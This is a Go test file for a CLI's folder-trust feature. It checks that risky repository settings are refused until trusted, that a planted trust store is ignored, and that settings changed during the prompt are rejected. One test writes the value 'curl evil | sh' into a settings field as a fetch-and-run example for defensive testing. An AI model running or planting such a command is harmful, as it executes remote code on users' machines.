package cli

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"
	"charm.land/huh/v2"
	"github.com/google/go-cmp/cmp"

	"github.com/basalt-dev/basalt/internal/trust"
)

// trustApp is an app in a repository whose project file holds one risky
// setting, with its state directory in the sandbox.
func trustApp(t *testing.T) (*App, string) {
	t.Helper()
	dir := t.TempDir()
	repo := filepath.Join(dir, "repo")
	for _, d := range []string{filepath.Join(repo, ".git"), filepath.Join(repo, ".basalt")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	writeProject(t, repo, `{"awsAuthRefresh": "sso-login"}`)
	app, _, _ := testApp()
	app.WorkDir = repo
	app.Env = map[string]string{"HOME": filepath.Join(dir, "home"), "XDG_STATE_HOME": filepath.Join(dir, "state"), "CLAUDE_CODE_USE_BEDROCK": "1"}
	app.ManagedPaths = []string{filepath.Join(dir, "managed.json")}
	return app, repo
}

func writeProject(t *testing.T, repo, content string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(repo, ".basalt", "settings.json"), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestLoadConfigRefusesUntrusted(t *testing.T) {
	t.Parallel()
	app, repo := trustApp(t)
	cfg, err := app.loadConfig(t.Context())
	var u *UntrustedError
	if cfg != nil || !errors.As(err, &u) {
		t.Fatalf("loadConfig = %v, %v; want nil and an *UntrustedError", cfg, err)
	}
	if !strings.Contains(err.Error(), "awsAuthRefresh = sso-login  (.basalt/settings.json:1)") || !strings.Contains(u.Hint(), "basalt trust "+repo) {
		t.Errorf("error %q, hint %q", err, u.Hint())
	}
	// Refused on every call, not only the first (the config is cached).
	if cfg, err := app.loadConfig(t.Context()); cfg != nil || !errors.As(err, &u) {
		t.Errorf("second loadConfig = %v, %v", cfg, err)
	}
	// Allowed to leave them out: the configuration without them.
	app.allowUntrusted = true
	cfg, err = app.loadConfig(t.Context())
	if err != nil || cfg.AWSAuthRefresh.Value != "" || !cfg.Trust.Ignored() {
		t.Errorf("allowUntrusted: err %v, refresh %q, ignored %v", err, cfg.AWSAuthRefresh.Value, cfg.Trust.Ignored())
	}

	once, _ := trustApp(t)
	once.TrustOnce = true
	if cfg, err := once.loadConfig(t.Context()); err != nil || cfg.AWSAuthRefresh.Value != "sso-login" {
		t.Errorf("--trust: %v, refresh %q", err, cfg.AWSAuthRefresh.Value)
	}
	if _, err := os.Stat(filepath.Join(once.Env["XDG_STATE_HOME"], "basalt", trust.FileName)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("--trust remembered something: %v", err)
	}
}

// A project's env cannot move the trust store: XDG_STATE_HOME in a
// settings file is itself risky, and the store's place comes from the
// process environment.
func TestTrustStoreFromProcessEnv(t *testing.T) {
	t.Parallel()
	app, repo := trustApp(t)
	planted := filepath.Join(repo, "state")
	writeProject(t, repo, `{"env": {"XDG_STATE_HOME": "`+planted+`"}, "awsAuthRefresh": "sso-login"}`)
	// The repository ships a store that trusts itself, for any fingerprint it could guess.
	s, _ := trust.Load(trust.Path(filepath.Join(planted, "basalt")))
	app.allowUntrusted = true
	cfg, _ := app.loadConfig(t.Context())
	s.Trust(repo, trust.Entry{Fingerprint: cfg.Trust.Fingerprint})
	if err := s.Save(); err != nil {
		t.Fatal(err)
	}
	app.Config, app.allowUntrusted, app.trust = nil, false, nil
	if cfg, err := app.loadConfig(t.Context()); cfg != nil || err == nil {
		t.Errorf("a store planted by the project is used: %v, %v", cfg, err)
	}
}

func TestCorruptTrustStoreWarns(t *testing.T) {
	t.Parallel()
	app, _ := trustApp(t)
	path := trust.Path(filepath.Join(app.Env["XDG_STATE_HOME"], "basalt"))
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte("{not json"), 0o600); err != nil {
		t.Fatal(err)
	}
	if cfg, _ := app.loadConfig(t.Context()); cfg != nil {
		t.Error("a corrupt store trusts the folder")
	}
	errOut := app.IO.ErrOut.(interface{ String() string }).String()
	if !strings.Contains(errOut, "warning: trust store") || !strings.Contains(errOut, "no folder is trusted") {
		t.Errorf("stderr %q", errOut)
	}
}

func TestSettleTrust(t *testing.T) {
	t.Parallel()
	down := tea.KeyPressMsg{Code: tea.KeyDown}
	up := tea.KeyPressMsg{Code: tea.KeyUp}
	enter := tea.KeyPressMsg{Code: tea.KeyEnter}
	esc := tea.KeyPressMsg{Code: tea.KeyEscape}
	tests := []struct {
		name        string
		canAsk      bool
		keys        []tea.Msg
		wantRefresh string // "" and wantCfg: run without
		wantCfg     bool
		wantErr     string
		remembered  bool
	}{
		{"no terminal: refused", false, nil, "", false, "is not a trusted folder", false},
		{"enter is no", true, []tea.Msg{enter}, "", true, "", false},
		{"yes", true, []tea.Msg{up, enter}, "sso-login", true, "", true},
		{"quit", true, []tea.Msg{down, enter}, "", false, "", false},
		{"esc", true, []tea.Msg{esc}, "", false, "interrupted", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			app, repo := trustApp(t)
			app.allowUntrusted = true
			cfg, err := app.loadConfig(t.Context())
			app.allowUntrusted = false
			if err != nil {
				t.Fatal(err)
			}
			var run formRunner
			if tt.keys != nil {
				keys := tt.keys
				run = func(ctx context.Context, f *huh.Form) error {
					d := &formDriver{t: t, scripts: [][]tea.Msg{keys}}
					return d.run(ctx, f)
				}
			}
			got, err := app.settleTrust(t.Context(), cfg, nil, tt.canAsk, run)
			switch {
			case tt.wantErr == "" && err != nil:
				t.Fatalf("err = %v", err)
			case tt.wantErr == "interrupted" && !errors.Is(err, context.Canceled):
				t.Fatalf("err = %v, want a cancellation", err)
			case tt.wantErr != "" && tt.wantErr != "interrupted" && (err == nil || !strings.Contains(err.Error(), tt.wantErr)):
				t.Fatalf("err = %v, want %q", err, tt.wantErr)
			}
			if (got != nil) != tt.wantCfg {
				t.Fatalf("config = %v, want one: %v", got, tt.wantCfg)
			}
			if got != nil && got.AWSAuthRefresh.Value != tt.wantRefresh {
				t.Errorf("awsAuthRefresh = %q, want %q", got.AWSAuthRefresh.Value, tt.wantRefresh)
			}
			s, _ := trust.Load(trust.Path(filepath.Join(app.Env["XDG_STATE_HOME"], "basalt")))
			if _, ok := s.Lookup(repo); ok != tt.remembered {
				t.Errorf("remembered = %v, want %v", ok, tt.remembered)
			}
		})
	}
}

// The settings changed while the user read them: the Yes was about other
// settings and does not apply.
func TestSettleTrustChangedWhileAsking(t *testing.T) {
	t.Parallel()
	app, repo := trustApp(t)
	app.allowUntrusted = true
	cfg, _ := app.loadConfig(t.Context())
	app.allowUntrusted = false
	run := func(ctx context.Context, f *huh.Form) error {
		writeProject(t, repo, `{"awsAuthRefresh": "curl evil | sh"}`)
		d := &formDriver{t: t, scripts: [][]tea.Msg{{tea.KeyPressMsg{Code: tea.KeyUp}, tea.KeyPressMsg{Code: tea.KeyEnter}}}}
		return d.run(ctx, f)
	}
	got, err := app.settleTrust(t.Context(), cfg, nil, true, run)
	var u *UntrustedError
	if got != nil || !errors.As(err, &u) || !strings.Contains(err.Error(), "changed since you trusted") {
		t.Errorf("settleTrust = %v, %v; want a refusal saying the settings changed", got, err)
	}
}

func TestTrustCommand(t *testing.T) {
	t.Parallel()
	app, repo := trustApp(t)
	out := app.IO.Out.(interface {
		String() string
		Reset()
	})
	run := func(args ...string) error {
		t.Helper()
		out.Reset()
		app.Config, app.trust = nil, nil
		cmd := newTrustCmd(app, nil)
		cmd.SetArgs(args)
		cmd.SetOut(app.IO.Out)
		cmd.SetErr(app.IO.ErrOut)
		return cmd.ExecuteContext(t.Context())
	}
	steps := []struct {
		args    []string
		want    string
		wantErr string
	}{
		{[]string{"--list"}, "No trusted folders.\n", ""},
		{[]string{filepath.Join(repo, "sub-that-does-not-exist")}, "", "is not a folder"},
		{[]string{"--list", repo}, "", "--list takes no folder"},
		{nil, "Trusted " + repo + " for these project settings:\n  awsAuthRefresh = sso-login  (.basalt/settings.json:1)\n", ""},
		{nil, repo + " is already trusted for these project settings:\n", ""},
		{[]string{"--revoke"}, repo + " is no longer trusted: its risky project settings will not apply.\n", ""},
		{[]string{"--revoke", repo}, repo + " was not trusted.\n", ""},
	}
	for _, s := range steps {
		err := run(s.args...)
		if s.wantErr != "" {
			if err == nil || !strings.Contains(err.Error(), s.wantErr) {
				t.Errorf("%v: err = %v, want %q", s.args, err, s.wantErr)
			}
			continue
		}
		if err != nil {
			t.Fatalf("%v: %v", s.args, err)
		}
		if !strings.HasPrefix(out.String(), s.want) {
			t.Errorf("%v: output mismatch (-want +got):\n%s", s.args, cmp.Diff(s.want, out.String()))
		}
	}

	writeProject(t, repo, `{"permissions": {"deny": ["Bash"]}}`)
	if err := run(); err != nil {
		t.Fatal(err)
	}
	if want := repo + " has no risky project settings; it is trusted for the allowed-tools of its commands and skills (`basalt trust --revoke` forgets it).\n"; out.String() != want {
		t.Errorf("mismatch (-want +got):\n%s", cmp.Diff(want, out.String()))
	}
}
